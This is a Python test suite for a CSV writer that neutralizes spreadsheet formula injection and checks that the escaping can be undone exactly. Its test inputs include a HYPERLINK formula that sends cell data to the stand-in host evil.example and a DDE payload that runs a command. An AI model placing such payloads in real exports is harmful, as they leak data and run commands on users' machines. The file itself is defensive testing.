"""The one CSV writer: no emitted cell starts a spreadsheet formula, and what it changes is undone exactly."""

from __future__ import annotations

import csv
import io
import re
from pathlib import Path

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from core import csvout

pytestmark = pytest.mark.unit

FUNCTIONS = Path(__file__).resolve().parents[2] / "functions"
TRIGGERS = ["=", "+", "-", "@", "\t", "\r", "\n", "\uff1d", "\uff0b", "\uff0d", "\uff20", "'"]
# Text built from the characters that matter (triggers, separators, spaces, quotes) and ordinary ones.
hostile_text = st.text(alphabet=st.sampled_from([*TRIGGERS, ",", ";", " ", '"', "a", "1", "|", "!"]), max_size=40)
any_text = st.one_of(hostile_text, st.text(max_size=40))


def parse(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text, newline="")))


@pytest.mark.parametrize(
    ("value", "expected"),
    [
        ('=HYPERLINK("https://evil.example/?"&A2,"click")', '\'=HYPERLINK("https://evil.example/?"&A2,"click")'),
        ("=cmd|' /C calc'!A0", "'=cmd|' /C calc'!A0"),
        ("+91 98765 43210", "'+91 98765 43210"),
        ("-2+3", "'-2+3"),
        ("@SUM(A1:A9)", "'@SUM(A1:A9)"),
        ("\t=1+1", "'\t'=1+1"),
        ("\r=1+1", "'\r'=1+1"),
        ("  =1+1", "  '=1+1"),
        ("vip;=HYPERLINK(1)", "vip;'=HYPERLINK(1)"),
        ("Pune, -Baner", "Pune, '-Baner"),
        ("Flat 3 - Tower B", "Flat 3 - Tower B"),
        ("asha@example.com", "asha@example.com"),
        ("'quoted", "''quoted"),
        ("", ""),
        ("\uff1dSUM(1)", "'\uff1dSUM(1)"),
    ],
)
def test_formula_starts_are_prefixed_and_plain_text_is_left_alone(value: str, expected: str) -> None:
    assert csvout.neutralize(value) == expected
    assert csvout.is_inert(expected) and csvout.restore(expected) == value


@settings(max_examples=400, deadline=None)
@given(any_text)
def test_neutralize_leaves_nothing_live_and_restore_undoes_it(value: str) -> None:
    cell = csvout.neutralize(value)
    assert csvout.is_inert(cell)
    assert csvout.restore(cell) == value
    if csvout.is_inert(value) and not value.lstrip(" ").startswith("'") and not re.search(r"[,;\t\r\n] *'", value):
        assert cell == value  # safe text is written as it is


@settings(max_examples=300, deadline=None)
@given(st.lists(any_text, max_size=8))
def test_a_line_parses_back_to_its_cells_each_inert_and_quoted(cells: list[str]) -> None:
    text = csvout.line(cells)
    assert text.endswith("\r\n")
    if not cells:
        return
    (parsed,) = parse(text)
    assert [csvout.restore(cell) for cell in parsed] == cells
    assert all(csvout.is_inert(cell) for cell in parsed)
    # every cell quoted: a reader splitting on ; or , inside a cell still sees one quoted field per column
    assert text.count('"') >= 2 * len(cells)


@settings(max_examples=200, deadline=None)
@given(any_text)
def test_is_inert_finds_every_live_start(value: str) -> None:
    stripped = value.lstrip(" ")
    if stripped[:1] in set(TRIGGERS) - {"'"}:
        assert not csvout.is_inert(value)
    for match in re.finditer(r"[,;\t\r\n] *([=+\-@\uff1d\uff0b\uff0d\uff20])", value):
        assert not csvout.is_inert(value), match


def test_phones_are_in_a_form_no_spreadsheet_evaluates() -> None:
    cell = csvout.phone_cell("+91", "98765 43210")
    assert cell == "(+91) 98765 43210" and csvout.neutralize(cell) == cell
    assert csvout.phone_cell("+91", "98XXXXXX10") == "(+91) 98XXXXXX10"
    assert csvout.phone_cell("+91", "") == ""


def test_no_module_writes_csv_but_the_one_writer() -> None:
    """A new CSV emitter must go through core.csvout.line, not its own csv.writer."""
    writers = re.compile(r"csv\.(writer|DictWriter)\(|\bDictWriter\(|from csv import")
    offenders = [
        str(path.relative_to(FUNCTIONS))
        for path in FUNCTIONS.rglob("*.py")
        if "venv" not in path.parts and path != FUNCTIONS / "core" / "csvout.py" and writers.search(path.read_text())
    ]
    assert offenders == []
